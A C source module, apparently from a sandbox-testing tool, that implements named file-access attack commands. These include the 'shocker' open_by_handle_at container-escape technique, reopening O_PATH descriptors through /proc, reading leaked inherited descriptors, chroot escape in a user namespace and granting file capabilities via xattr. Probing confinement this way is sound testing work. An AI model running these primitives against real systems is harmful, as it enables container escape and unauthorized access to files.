/* Attacks on files by calls that a shell has no word for. */
#include "attack.h"

#include <linux/fs.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/xattr.h>

/* read-at FOLDER NAME: through a descriptor of the folder, one that can do nothing else and one that can. */
static int read_at(int count, char **a) {
    (void)count;
    int result = 1;
    for (int way = 0; way < 2; way++) {
        int folder = open(a[0], (way == 0 ? O_PATH : O_RDONLY) | O_DIRECTORY);
        result &= folder < 0 ? failed("open folder") : spill(openat(folder, a[1], O_RDONLY));
    }
    return result;
}

/* read-opath PATH: an O_PATH descriptor opened again by its /proc name. */
static int read_opath(int count, char **a) {
    (void)count;
    char name[64];
    int fd = open(a[0], O_PATH);
    if (fd < 0)
        return failed("O_PATH");
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return spill(open(name, O_RDONLY));
}

/* read-openat2 PATH RESOLVE: openat2(2) with flags of its own. */
static int read_openat2(int count, char **a) {
    (void)count;
    struct { uint64_t flags, mode, resolve; } how = { O_RDONLY, 0, (uint64_t)number(a[1]) };
    int root = open("/", O_PATH);
    return spill((int)syscall(SYS_openat2, root, a[0], &how, sizeof how));
}

/* read-mmap PATH: by pages. */
static int read_mmap(int count, char **a) {
    (void)count;
    struct stat about;
    int fd = open(a[0], O_RDONLY);
    if (fd < 0 || fstat(fd, &about) != 0)
        return failed("open");
    char *pages = mmap(NULL, (size_t)about.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
    if (pages == MAP_FAILED)
        return failed("mmap");
    fwrite(pages, 1, (size_t)about.st_size, stdout);
    return 0;
}

/* read-handle PATH: the inode itself, past every mount. Needs CAP_DAC_READ_SEARCH. */
static int read_handle(int count, char **a) {
    (void)count;
    union { struct file_handle handle; char room[256]; } it;
    int mount;
    it.handle.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, a[0], &it.handle, &mount, 0) != 0)
        return failed("name_to_handle_at");
    int root = open(count > 1 ? a[1] : "/", O_RDONLY);
    return spill(open_by_handle_at(root, &it.handle, O_RDONLY));
}

/* handle-of PATH. */
static int handle_of(int count, char **a) {
    (void)count;
    union { struct file_handle handle; char room[256]; } it;
    int mount;
    it.handle.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, a[0], &it.handle, &mount, 0) != 0)
        return failed("name_to_handle_at");
    return worked();
}

/* find-handle FOLDER: guesses handles near a known inode (the "shocker" attack on containers). */
static int find_handle(int count, char **a) {
    (void)count;
    struct stat about;
    int root = open("/", O_RDONLY);
    if (stat(a[0], &about) != 0)
        return failed("stat");
    /* ext4's and most others' first form: inode number and generation; 0 matches any on some. */
    struct { unsigned bytes; int type; uint32_t inode, generation; } guess = { 8, 1, (uint32_t)about.st_ino, 0 };
    return spill((int)syscall(SYS_open_by_handle_at, root, &guess, O_RDONLY));
}

/* exchange A B: two names swapped in one step. */
static int exchange(int count, char **a) {
    (void)count;
    return renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) == 0 ? worked() : failed("exchange");
}

/* rename-at FOLDER NAME NEWFOLDER NEWNAME: by descriptors of the folders. */
static int rename_at(int count, char **a) {
    (void)count;
    int from = open(a[0], O_RDONLY | O_DIRECTORY), to = open(a[2], O_RDONLY | O_DIRECTORY);
    return renameat(from, a[1], to, a[3]) == 0 ? worked() : failed("renameat");
}

/* nameless FOLDER TARGET TEXT: a file without a name gets one at TARGET. */
static int nameless(int count, char **a) {
    (void)count;
    char name[64];
    int fd = open(a[0], O_TMPFILE | O_RDWR, 0644);
    if (fd < 0)
        return failed("O_TMPFILE");
    if (write(fd, a[2], strlen(a[2])) < 0)
        return failed("write");
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return linkat(AT_FDCWD, name, AT_FDCWD, a[1], AT_SYMLINK_FOLLOW) == 0 ? worked() : failed("linkat");
}

/* link-fd PATH TARGET: a link made from an open descriptor. */
static int link_fd(int count, char **a) {
    (void)count;
    char name[64];
    int fd = open(a[0], O_RDONLY);
    if (fd < 0)
        return failed("open");
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return linkat(AT_FDCWD, name, AT_FDCWD, a[1], AT_SYMLINK_FOLLOW) == 0 ? worked() : failed("linkat");
}

/* truncate PATH: by name, without opening. */
static int cut(int count, char **a) {
    (void)count;
    return truncate(a[0], 0) == 0 ? worked() : failed("truncate");
}

/* set-xattr PATH. */
static int set_xattr(int count, char **a) {
    (void)count;
    return setxattr(a[0], "user.owned", "yes", 3, 0) == 0 ? worked() : failed("setxattr");
}

/* set-named PATH NAME VALUE: an extended attribute of any name. */
static int set_named(int count, char **a) {
    (void)count;
    return setxattr(a[0], a[1], a[2], strlen(a[2]), 0) == 0 ? worked() : failed(a[1]);
}

/* set-flags PATH: inode flags by ioctl, for which reading rights are enough to open. */
static int set_flags(int count, char **a) {
    (void)count;
    int flags, fd = open(a[0], O_RDONLY);
    if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &flags) != 0)
        return failed("FS_IOC_GETFLAGS");
    flags |= FS_NODUMP_FL;
    return ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0 ? worked() : failed("FS_IOC_SETFLAGS");
}

/* write-by HOW PATH TEXT: calls that change a file otherwise than by write. */
static int write_by(int count, char **a) {
    (void)count;
    int source = memfd_create("text", 0);
    size_t size = strlen(a[2]);
    if (write(source, a[2], size) < 0 || lseek(source, 0, SEEK_SET) != 0)
        return failed("memfd");
    int fd = open(a[1], O_RDWR | O_CREAT, 0644);
    if (fd < 0)
        return failed("open");
    ssize_t done = -1;
    if (strcmp(a[0], "sendfile") == 0)
        done = sendfile(fd, source, NULL, size);
    else if (strcmp(a[0], "mmap") == 0) {
        if (ftruncate(fd, (off_t)size) != 0)
            return failed("ftruncate");
        char *pages = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (pages == MAP_FAILED)
            return failed("mmap");
        memcpy(pages, a[2], size);
        done = (ssize_t)size;
    } else if (strcmp(a[0], "pwritev2") == 0) {
        struct iovec part = { a[2], size };
        done = pwritev2(fd, &part, 1, 0, 0);
    } else if (strcmp(a[0], "fallocate") == 0)
        done = fallocate(fd, 0, 0, 4096) == 0 ? 1 : -1;
    return done > 0 ? worked() : failed(a[0]);
}

/* reopen PATH TEXT: opened for reading, then again for writing by its /proc name. */
static int reopen(int count, char **a) {
    (void)count;
    char name[64];
    int fd = open(a[0], O_RDONLY);
    if (fd < 0)
        return failed("open");
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    int again = open(name, O_WRONLY | O_APPEND);
    return again >= 0 && write(again, a[1], strlen(a[1])) > 0 ? worked() : failed("open again");
}

/* use-fd NUMBER TEXT: writes to a descriptor that was inherited. */
static int use_fd(int count, char **a) {
    (void)count;
    return write((int)number(a[0]), a[1], strlen(a[1])) > 0 ? worked() : failed("write");
}

/* read-fd NUMBER [NAME]: reads an inherited descriptor, or a file below an inherited folder. */
static int read_fd(int count, char **a) {
    int fd = (int)number(a[0]);
    return spill(count > 1 ? openat(fd, a[1], O_RDONLY) : fd);
}

/* read-any-fd: every descriptor beyond the standard ones; a folder's /../ too. */
static int read_any_fd(int count, char **a) {
    for (int fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        printf("descriptor %d is open\n", fd);
        spill(fd);
        if (count > 0)
            spill(openat(fd, a[0], O_RDONLY));
    }
    return 0;
}

/* write-nonblock PATH TEXT: into a FIFO or a device, without waiting for a reader. */
static int write_nonblock(int count, char **a) {
    (void)count;
    int fd = open(a[0], O_WRONLY | O_NONBLOCK);
    return fd >= 0 && write(fd, a[1], strlen(a[1])) > 0 ? worked() : failed("write");
}

/* device PATH: a device of the machine, opened for both; a plain file that stands there is none. */
static int device(int count, char **a) {
    (void)count;
    struct stat about;
    int fd = open(a[0], O_RDWR | O_NONBLOCK | O_NOCTTY);
    if (fd < 0 || fstat(fd, &about) != 0)
        return failed(a[0]);
    errno = ENODEV;
    return S_ISCHR(about.st_mode) || S_ISBLK(about.st_mode) ? worked() : failed(a[0]);
}

/* truncate-to PATH LENGTH: by name, without opening. */
static int cut_to(int count, char **a) {
    (void)count;
    return truncate(a[0], number(a[1])) == 0 ? worked() : failed("truncate");
}

/* get-xattr PATH NAME: an extended attribute's value. */
static int get_xattr(int count, char **a) {
    (void)count;
    char value[256] = "";
    if (getxattr(a[0], a[1], value, sizeof value - 1) < 0)
        return failed("getxattr");
    puts(value);
    return 0;
}

/* grant PATH: a program gets a capability (CAP_NET_ADMIN) that it has for whoever runs it. */
static int grant(int count, char **a) {
    (void)count;
    uint32_t capability[5] = { 0x02000001, 1 << 12, 0, 0, 0 };
    return setxattr(a[0], "security.capability", capability, sizeof capability, 0) == 0 ? worked()
                                                                                          : failed("setxattr");
}

/* chroot-read FOLDER PATH. */
static int chroot_read(int count, char **a) {
    (void)count;
    renew(0x10000000 /* CLONE_NEWUSER */);
    if (chroot(a[0]) != 0)
        return failed("chroot");
    return spill(open(a[1], O_RDONLY));
}

/* make-deep LEVELS NAME TEXT, read-deep LEVELS NAME: a file at the end of a path longer than PATH_MAX. */
static void descend(long levels, int make) {
    char name[201];
    memset(name, 'd', sizeof name - 1);
    name[sizeof name - 1] = 0;
    for (long level = 0; level < levels; level++) {
        if (make)
            mkdir(name, 0755);
        if (chdir(name) != 0)
            exit(failed("descend"));
    }
}

static int make_deep(int count, char **a) {
    (void)count;
    descend(number(a[0]), 1);
    int fd = open(a[1], O_WRONLY | O_CREAT, 0644);
    return fd >= 0 && write(fd, a[2], strlen(a[2])) > 0 ? 0 : failed("write");
}

static int read_deep(int count, char **a) {
    (void)count;
    descend(number(a[0]), 0);
    return spill(open(a[1], O_RDONLY));
}

const struct command FILE_COMMANDS[] = {
    { "make-deep", 3, make_deep },   { "read-deep", 2, read_deep },
    { "read-at", 2, read_at },       { "read-opath", 1, read_opath },   { "read-openat2", 2, read_openat2 },
    { "read-mmap", 1, read_mmap },   { "read-handle", 1, read_handle }, { "handle-of", 1, handle_of },
    { "find-handle", 1, find_handle }, { "exchange", 2, exchange },     { "rename-at", 4, rename_at },
    { "nameless", 3, nameless },     { "link-fd", 2, link_fd },         { "truncate", 1, cut },
    { "set-xattr", 1, set_xattr },   { "set-flags", 1, set_flags },   { "set-named", 3, set_named },     { "write-by", 3, write_by },
    { "reopen", 2, reopen },         { "use-fd", 2, use_fd },           { "read-fd", 1, read_fd },
    { "read-any-fd", 0, read_any_fd }, { "write-nonblock", 2, write_nonblock }, { "chroot-read", 2, chroot_read },
    { "device", 1, device },         { "truncate-to", 2, cut_to },      { "get-xattr", 2, get_xattr },
    { "grant", 1, grant },
    { NULL, 0, NULL },
};
